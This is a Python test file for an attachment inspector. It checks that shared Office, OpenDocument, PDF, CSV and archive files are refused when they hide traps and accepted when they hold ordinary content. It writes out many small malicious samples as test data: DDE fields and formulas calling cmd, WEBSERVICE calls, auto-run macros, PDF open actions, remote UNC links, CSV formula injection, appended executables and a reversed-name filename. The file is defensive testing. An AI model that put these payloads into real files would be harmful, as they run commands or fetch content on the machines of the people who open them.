"""What would run or fetch something in the hands of whoever opens a file that is handed out."""

from __future__ import annotations

from io import BytesIO

import pytest
from PIL import Image

from generator.load.attachments import inspect_attachment
from generator.load.files import Source
from generator.words import Words
from tests.support.documents import make_pdf, make_text, make_workbook, pack

_ELSEWHERE, _MACROS, _OBJECT, _WORKED_OUT = "去取别处的内容", "里面有宏", "别的程序的对象", "当成公式运行"
_SLIDES = (
    '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"'
    "/></Types>"
)


def say(name: str, content: bytes) -> str:
    """Give why a file is refused, in words; "" where it is not."""
    found = inspect_attachment(Source(f"content/attachments/{name}", content))
    return Words()(found.message, **found.arguments)


def write(body: str, part: str = "word/document.xml") -> bytes:
    """Give a Word document with a part."""
    return make_text(["x"], more={part: f"<w:document xmlns:w='w'><w:body>{body}</w:body></w:document>"})


def field(*runs: str) -> str:
    """Give a field of Word; `{` and `}` begin and end one within."""
    marks = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}
    return "".join(marks.get(run, f"<w:instrText>{run}</w:instrText>") for run in ("{", *runs, "}"))


def calculate(formula: str, element: str = "f") -> bytes:
    """Give a workbook with a formula."""
    return make_workbook(
        {"表": [("x",)]}, more={"xl/worksheets/sheet1.xml": f"<c><{element}>{formula}</{element}></c>"}
    )


def put(part: str, text: str | bytes) -> bytes:
    """Give a workbook with a part of its own."""
    return make_workbook({"表": [("x",)]}, more={part: text})


def open_document(form: str, body: str, **more: str | bytes) -> bytes:
    """Give an OpenDocument."""
    kind = f"application/vnd.oasis.opendocument.{form}"
    return pack({"mimetype": kind, "content.xml": f"<d xmlns:x='x' xmlns:t='t'>{body}</d>", **more})


def show(action: str, element: str = "hlinkClick") -> bytes:
    """Give slides with something to click at."""
    return pack(
        {"[Content_Types].xml": _SLIDES, "ppt/slides/slide1.xml": f"<s><{element} id='' action='{action}'/></s>"}
    )


def make_picture() -> bytes:
    """Give a small picture."""
    written = BytesIO()
    Image.new("RGB", (8, 8), "white").save(written, "PNG")
    return written.getvalue()


_REFUSED: dict[str, tuple[str, bytes, str]] = {
    "field": ("a.docx", write(field(' DDEAUTO c:\\cmd.exe "/k x" ')), _ELSEWHERE),
    "field in pieces": ("a.docx", write(field("DD", "EAU", "TO cmd")), _ELSEWHERE),
    "field within": ("a.docx", write(field("IF ", "{", "DDE cmd x", "}")), _ELSEWHERE),
    "field by numbers": ("a.docx", write(field("{", "QUOTE 68 68 69", "}", " cmd")), _ELSEWHERE),
    "field that another one names": ("a.docx", write(field("{", "REF x", "}", " cmd")), _ELSEWHERE),
    "field of one element": ("a.docx", write('<w:fldSimple w:instr=" INCLUDETEXT x "/>'), _ELSEWHERE),
    "field in a footer": ("a.docx", write(field("INCLUDEPICTURE x"), "word/footer1.xml"), _ELSEWHERE),
    "picture by link": ("a.docx", write('<a:blip xmlns:a="a" xmlns:r="r" r:link="x"/>'), _ELSEWHERE),
    "old picture": ("a.docx", write('<v:imagedata xmlns:v="v" src="\\\\host\\a.png"/>'), _ELSEWHERE),
    "old drawing": ("a.xlsx", put("xl/drawings/vml.vml", "<v><br><v:fill SRC = 'http://x/a'>"), _ELSEWHERE),
    "page": ("a.docx", make_text(["x"], more={"word/chunk.html": "<script>"}), _OBJECT),
    "part of another format": (
        "a.docx",
        make_text(["x"], more={"word/_rels/document.xml.rels": '<R><Relationship Type="t/aFChunk" Target="a"/></R>'}),
        _ELSEWHERE,
    ),
    "program": ("a.xlsx", put("xl/media/image1.png", b"MZ\x90"), _OBJECT),
    "object": ("a.xlsx", put("xl/a.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), _OBJECT),
    "link to a program": (
        "a.xlsx",
        put("xl/externalLinks/externalLink1.xml", '<e><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>'),
        "去取别处的内容（cmd|/c calc）",
    ),
    "call of a program": ("a.xlsx", calculate("cmd|'/c calc'!A0"), _ELSEWHERE),
    "call of the network": ("a.xlsx", calculate('_xlfn.WEBSERVICE("http://x/"&amp;A1)'), _ELSEWHERE),
    "call in pieces": ("a.xlsx", calculate('1+IMA<!-- -->GE ("x")'), _ELSEWHERE),
    "call in a condition": ("a.xlsx", calculate('RTD("x",,"y")', "formula1"), _ELSEWHERE),
    "name that runs": ("a.xlsx", put("xl/workbook.xml", '<w><definedName name="_xlnm.Auto_Open"/></w>'), _MACROS),
    "sheet of macros": ("a.xlsx", put("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='x'/>"), _MACROS),
    "connection": ("a.xlsx", put("xl/connections.xml", '<c><webPr url="http://x/"/></c>'), _ELSEWHERE),
    "database": ("a.xlsx", put("xl/connections.xml", '<c><dbPr connection="DSN=x"/></c>'), _ELSEWHERE),
    "add-in": ("a.xlsx", put("xl/webextensions/webextension1.xml", "<x/>"), _ELSEWHERE),
    "click that runs": ("a.pptx", show("ppaction://program"), _MACROS),
    "section": ("a.odt", open_document("text", "<t:section-source x:href='http://x/'/>"), _ELSEWHERE),
    "background": ("a.odt", open_document("text", "<t:background-image x:href=' smb://x/'/>"), _ELSEWHERE),
    "file beside it": ("a.odt", open_document("text", "<t:image x:href='../a.png'/>"), _ELSEWHERE),
    "table": ("a.ods", open_document("spreadsheet", "<t:table-source x:href='//x/a'/>"), _ELSEWHERE),
    "other program": ("a.ods", open_document("spreadsheet", "<t:dde-source t:a='soffice'/>"), _ELSEWHERE),
    "formula": (
        "a.ods",
        open_document("spreadsheet", "<t:c t:formula='of:=COM.MICROSOFT.WEBSERVICE(&quot;x&quot;)'/>"),
        _ELSEWHERE,
    ),
    "link that runs": ("a.odt", open_document("text", "<t:a x:href='vnd.sun.star.script:x'/>"), _MACROS),
    "reload": ("a.odt", open_document("text", "", **{"meta.xml": "<m><auto-reload href='http://x'/></m>"}), _ELSEWHERE),
    "object of old": ("a.odt", open_document("text", "", x=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), _OBJECT),
    "form with scripts": ("a.pdf", make_pdf(AcroForm="<< /XFA (x) >>"), "有脚本"),
    "page when opened": ("a.pdf", make_pdf(OpenAction="<< /S /URI /URI (http://x) >>"), "有脚本"),
    "page afterwards": ("a.pdf", make_pdf(X="<< /S /GoTo /Next [<< /S /URI >>] >>"), "有脚本"),
    "page on an event": ("a.pdf", make_pdf(AA="<< /WC << /S /URI >> >>"), "有脚本"),
    "other machine": ("a.pdf", make_pdf(X="<< /S /GoToR /F (\\\\\\\\host\\\\a.pdf) >>"), _ELSEWHERE),
    "file of an address": ("a.pdf", make_pdf(X="<< /F << /FS /URL /F (http://x) >> >>"), _ELSEWHERE),
    "film": ("a.pdf", make_pdf(X="<< /Subtype /Movie >>"), "夹带"),
    "archive behind": ("a.pdf", make_pdf("x") + pack({"a.exe": b"MZ"}), "还接着一个压缩包"),
    "archive within": ("a.png", make_picture() + pack({"a.exe": b"MZ"}) + b"z" * 70_000, "还接着一个压缩包"),
    "letters to many": (
        "a.docx",
        write("<w:udl w:val='Provider=x;Data Source=//x/a'/>", "word/settings.xml"),
        _ELSEWHERE,
    ),
    "query of letters": ("a.docx", write("<w:connectString w:val='DSN=x'/>", "word/settings.xml"), _ELSEWHERE),
    "file of a connection": (
        "a.xlsx",
        put("xl/connections.xml", '<c><connection id="1" odcFile="\\\\host\\a.odc"/></c>'),
        "去取别处的内容（\\\\host\\a.odc）",
    ),
    "column that calculates": ("a.xlsx", calculate('WEBSERVICE("x")', "calculatedColumnFormula"), _ELSEWHERE),
    "part under another ending": ("a.docx", write(field("DDEAUTO cmd"), "word/a.dat"), _ELSEWHERE),
    "part without an ending": (
        "a.docx",
        make_text(["x"], more={"word/a": " \n<w><imagedata href='//x/a'/></w>"}),
        _ELSEWHERE,
    ),
    "part in wide letters": (
        "a.docx",
        make_text(["x"], more={"word/a.bin": "<w><blip link='x'/></w>".encode("utf-16")}),
        _ELSEWHERE,
    ),
    "add-in elsewhere": ("a.xlsx", put("xl/a.xml", "<w:webextension xmlns:w='w'/>"), _ELSEWHERE),
    "relation that hides where": (
        "a.docx",
        make_text(["x"], more={"word/_rels/a.xml.rels": '<R><Relationship Type="t/image" Target="http://x/a"/></R>'}),
        _ELSEWHERE,
    ),
    "link under the pointer": (
        "a.pptx",
        pack({"[Content_Types].xml": _SLIDES, "ppt/slides/slide1.xml": "<s><hlinkMouseOver id='r'/></s>"}),
        _ELSEWHERE,
    ),
    "click that starts": ("a.odp", open_document("presentation", "<t:event-listener t:action='execute'/>"), _MACROS),
    "script on an event": ("a.odt", open_document("text", "<t:event-listener t:language='ooo:script'/>"), _MACROS),
    "RAR behind": ("a.png", make_picture() + b"Rar!\x1a\x07\x01\x00" + b"z" * 99, "还接着一个压缩包"),
    "7z behind": ("a.pdf", make_pdf("x") + b"7z\xbc\xaf\x27\x1c" + b"z" * 99, "还接着一个压缩包"),
    "behind a document": ("a.docx", make_text(["x"]) + b"Rar!" + b"z" * 99, "还接着别的内容"),
    "before a document": ("a.xlsx", pack({"a.exe": b"MZ"}) + put("xl/a.xml", "<a/>"), "还接着别的内容"),
    "two in one": ("a.zip", pack({"a.exe": b"MZ"}) + pack({"b.txt": "x"}), "还接着别的内容"),
    "call after a number": ("a.csv", b"a,-2+3+cmd|' /C calc'!A0\n", _WORKED_OUT),
    "function after a number": ("a.csv", b"a,+1+HYPERLINK(A1)\n", _WORKED_OUT),
    "other separator": ("a.csv", b"a;=1+1\n", _WORKED_OUT),
    "said separator": ("a.csv", b"sep=^\na^-x\n", "第 2 行的“-x”"),
    "both separators": ("a.csv", b'a,b,c\t"=1"\n', _WORKED_OUT),
    "wide sign": ("a.csv", "a,＝1+1\n".encode(), _WORKED_OUT),
    "old sheet": ("a.csv", b"ID;PWXL;N;E\nC;Y1;X1;EEXEC(1)\nE\n", _WORKED_OUT),
    "rich text": ("a.txt", b"{\\rtf1 x}", "内容不是文字"),
    "folder with content": ("a.zip", pack({"a.exe/": b"MZ"}), ".exe 是可以运行的程序"),
    "name turned around": ("a.zip", pack({"a\u202etxt.exe.txt": b"x"}), "在 Windows 上不能用"),
}


@pytest.mark.parametrize(("name", "content", "said"), _REFUSED.values(), ids=_REFUSED)
def test_traps_are_refused(name: str, content: bytes, said: str) -> None:
    """Nothing starts, and nobody learns of it, when a reader opens what the company has handed out."""
    assert said in say(name, content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", write(field(" PAGE ") + field(' HYPERLINK "https://example.com/" ') + field('TOC \\o "1-3"'))),
        ("a.docx", write(field("IF ", "{", "MERGEFIELD x", "}", ' = 1 "LINK" '))),
        ("a.xlsx", calculate('SUM(A1:A2)&amp;"cmd|x WEBSERVICE(1)"')),
        ("a.xlsx", calculate("SUM(表[[#All],[甲|乙]])+'a|b'!A1+MYIMAGE(1)+{1,2}")),
        ("a.xlsx", put("xl/connections.xml", '<c><dbPr connection="Data Model Connection"/></c>')),
        ("a.xlsx", put("xl/printerSettings/printerSettings1.bin", b"\0x")),
        ("a.pptx", show("ppaction://hlinksldjump")),
        ("a.pptx", show("ppaction://hlinkshowjump?jump=nextslide", "hlinkHover")),
        ("a.odp", open_document("presentation", "<t:event-listener t:action='next-page'/>")),
        (
            "a.docx",
            make_text(["x"], more={"word/settings.xml": "<w><mailMerge><udl/><query val='SELECT'/></mailMerge></w>"}),
        ),
        ("a.odt", open_document("text", "<t:a x:href='https://example.com/'/><t:image x:href='Pictures/a.png'/>")),
        ("a.ods", open_document("spreadsheet", "<t:c t:formula='of:=SUM([.A1:.A2]){1|2}'/><t:form x:href=''/>")),
        ("a.pdf", make_pdf(OpenAction="[0 /Fit]", X="<< /Subtype /Link /A << /S /URI /URI (https://x) >> /F 4 >>")),
        ("a.csv", "温度,电话\n-5,+86 10 1234\n-5台,-1.5%\n－,抄送；@张三\n".encode()),
    ],
)
def test_what_people_write_passes(name: str, content: bytes) -> None:
    """Page numbers, links that are clicked, sums, minus signs and telephone numbers are no traps."""
    assert say(name, content) == ""


def test_formulas_hold_nobody_up() -> None:
    """What is opened in a formula and never closed costs no more than its length."""
    assert say("a.xlsx", calculate("[" * 1_000_000)) == ""
